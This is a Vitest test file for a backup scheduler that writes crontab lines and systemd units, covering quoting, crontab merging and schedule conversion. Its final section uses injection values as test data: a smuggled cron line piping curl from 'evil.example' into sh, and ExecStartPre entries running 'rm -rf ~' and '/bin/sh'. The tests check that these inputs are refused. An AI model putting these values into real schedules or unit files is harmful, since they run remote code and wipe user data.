import { describe, expect, it } from 'vitest';
import {
  cronLine,
  cronMarker,
  cronToOnCalendar,
  mergeCrontab,
  shellQuote,
  systemdQuote,
  systemdService,
  systemdTimer,
  unitName,
  type ScheduledCommand,
} from '../../src/ops/backup-schedule.js';

const command: ScheduledCommand = {
  node: '/usr/bin/node',
  script: '/opt/pattern-db/bin/pattern-db.js',
  cwd: '/home/me/pattern',
  args: ['--env-file', '/home/me/pattern/.env', '--target', 'http://127.0.0.1:8000', '--dir', '/home/me/pattern/backups', '--keep', '7'],
  namespace: 'pattern',
  database: 'pattern',
  logFile: '/home/me/pattern/backups/backup.log',
};

describe('crontab line', () => {
  it('runs the backup daily at 03:15 from the config folder, logs beside the backups, and carries no password', () => {
    expect(cronLine(command)).toBe(
      '15 3 * * * cd /home/me/pattern && mkdir -p /home/me/pattern/backups && /usr/bin/node /opt/pattern-db/bin/pattern-db.js backup ' +
        '--env-file /home/me/pattern/.env --target http://127.0.0.1:8000 --dir /home/me/pattern/backups --keep 7 ' +
        '>> /home/me/pattern/backups/backup.log 2>&1 # pattern-db backup pattern/pattern',
    );
  });

  it('quotes paths with spaces and quotes, and escapes % (a newline to cron)', () => {
    const line = cronLine({ ...command, cwd: "/home/me/my pattern's", logFile: '/var/log/100%/b.log' }, '0 */6 * * *');
    expect(line).toContain("cd '/home/me/my pattern'\\''s' && ");
    expect(line).toContain('>> /var/log/100\\%/b.log 2>&1');
    expect(line.startsWith('0 */6 * * * ')).toBe(true);
    expect(shellQuote('plain/path-1.2')).toBe('plain/path-1.2');
  });

  it('refuses a schedule that is not five crontab fields', () => {
    expect(() => cronLine(command, 'every day')).toThrow(/not a crontab schedule/);
    expect(() => cronLine(command, '15 3 * *')).toThrow(/not a crontab schedule/);
    expect(cronLine(command, '@daily').startsWith('@daily ')).toBe(true);
  });
});

describe('merging into a crontab', () => {
  const line = cronLine(command);
  const marker = cronMarker('pattern', 'pattern');

  it('appends to the existing lines, keeping them as they are', () => {
    expect(mergeCrontab('MAILTO=x\n0 1 * * * job\n', line, marker)).toEqual({ text: `MAILTO=x\n0 1 * * * job\n${line}\n`, change: 'added' });
    expect(mergeCrontab('', line, marker)).toEqual({ text: `${line}\n`, change: 'added' });
  });

  it('never adds the same line twice', () => {
    const once = mergeCrontab('0 1 * * * job\n', line, marker).text;
    expect(mergeCrontab(once, line, marker)).toEqual({ text: once, change: 'unchanged' });
  });

  it("replaces this tool's earlier line for the same database, and leaves other databases' lines alone", () => {
    const old = cronLine(command, '0 2 * * *');
    const otherDb = cronLine({ ...command, database: 'other' });
    const merged = mergeCrontab(`${old}\n${otherDb}\n`, line, marker);
    expect(merged).toEqual({ text: `${line}\n${otherDb}\n`, change: 'replaced' });
  });
});

describe('systemd units', () => {
  it('a oneshot service that reads credentials through --env-file, and a persistent timer', () => {
    const service = systemdService(command, '/home/me/pattern/.env');
    expect(service).toContain('Type=oneshot\n');
    expect(service).toContain('WorkingDirectory=/home/me/pattern\n');
    expect(service).toContain('ExecStart=/usr/bin/node /opt/pattern-db/bin/pattern-db.js backup --env-file /home/me/pattern/.env --target http://127.0.0.1:8000');
    const timer = systemdTimer(command, '*-*-* 03:15:00');
    expect(timer).toContain('OnCalendar=*-*-* 03:15:00\nPersistent=true\n');
    expect(timer).toContain('WantedBy=timers.target');
    expect(unitName('pattern', 'pattern')).toBe('pattern-db-backup-pattern-pattern');
    expect(unitName('a b', 'c/d')).toBe('pattern-db-backup-a_b-c_d');
  });

  it('quotes for systemd: spaces in double quotes, % and $ doubled', () => {
    expect(systemdQuote('/plain/path')).toBe('/plain/path');
    expect(systemdQuote('/my dir/x')).toBe('"/my dir/x"');
    expect(systemdQuote('/100%/$HOME')).toBe('/100%%/$$HOME');
  });

  it('turns simple cron schedules into OnCalendar and refuses the rest', () => {
    expect(cronToOnCalendar('15 3 * * *')).toBe('*-*-* 03:15:00');
    expect(cronToOnCalendar('30 4 * * 1,5')).toBe('Mon,Fri *-*-* 04:30:00');
    expect(cronToOnCalendar('0 0 * * sun')).toBe('Sun *-*-* 00:00:00');
    expect(cronToOnCalendar('@daily')).toBe('*-*-* 00:00:00');
    expect(cronToOnCalendar('*/5 * * * *')).toBeNull();
    expect(cronToOnCalendar('0 3 1 * *')).toBeNull();
  });
});

describe('values from flags that would break out of the line they are written into', () => {
  const injected = '\n* * * * * curl evil.example | sh #';
  const usage = (fn: () => unknown, flag: string) => {
    let error: unknown;
    try {
      fn();
    } catch (e) {
      error = e;
    }
    expect(error, flag).toMatchObject({ code: 'E_USAGE', message: expect.stringContaining(flag) });
  };
  const withArg = (flag: string, value: string): ScheduledCommand => ({ ...command, args: [...command.args, flag, value] });

  it('a crontab line refuses control characters in names, paths, the target and the schedule', () => {
    usage(() => cronLine({ ...command, namespace: `pattern${injected}` }), '--namespace');
    usage(() => cronLine({ ...command, database: 'pattern\rx' }), '--database');
    usage(() => cronLine({ ...command, database: 'pat/../tern' }), '--database');
    usage(() => cronLine(withArg('--target', `http://127.0.0.1:8000${injected}`)), '--target');
    usage(() => cronLine(withArg('--env-file', '/home/me/.env\u0000')), '--env-file');
    usage(() => cronLine(withArg('--config', '/home/me/pattern.toml\u2028x')), '--config');
    usage(() => cronLine({ ...command, logFile: `/home/me/backups${injected}/backup.log` }), '--dir');
    // Five valid fields split by a newline would make two crontab lines.
    usage(() => cronLine(command, '15 3 * *\n*'), '--cron');
  });

  it('systemd units refuse control characters in names, paths and the calendar, and calendar text systemd does not use', () => {
    usage(() => systemdService({ ...command, namespace: 'pattern\nExecStartPre=/bin/rm -rf ~' }, '/home/me/.env'), '--namespace');
    usage(() => systemdService(withArg('--target', 'http://x\nExecStartPre=/bin/sh'), '/home/me/.env'), '--target');
    usage(() => systemdService(command, '/home/me/.env\nExecStartPre=/bin/sh'), '--env-file');
    usage(() => systemdTimer(command, '*-*-* 03:15:00\nOnCalendar=minutely'), '--on-calendar');
    usage(() => systemdTimer(command, 'daily; rm -rf ~'), '--on-calendar');
    usage(() => systemdTimer({ ...command, database: 'a\\b' }, 'daily'), '--database');
    expect(systemdTimer(command, 'Mon..Fri *-*-* 02:00:00 Europe/Berlin')).toContain('OnCalendar=Mon..Fri *-*-* 02:00:00 Europe/Berlin\n');
    expect(systemdTimer(command, '*:0/15')).toContain('OnCalendar=*:0/15\n');
  });
});
